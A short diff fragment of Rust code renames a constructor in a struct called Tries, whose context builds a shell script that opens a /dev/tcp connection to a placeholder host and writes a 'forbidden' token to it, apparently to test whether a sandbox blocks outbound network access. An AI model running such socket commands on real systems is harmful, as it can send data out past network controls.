@@ -24,7 +24,7 @@ pub struct Tries {
 
 impl Tries {
     /// With tokens of its own.
-    pub fn new() -> Self {
+    pub fn fresh() -> Self {
         let (permitted, forbidden) = (token::new(), token::new());
         let script = format!(
             "try() {{ exec 3<>/dev/tcp/{stranger}/9999 && echo {forbidden} >&3; }}\n\
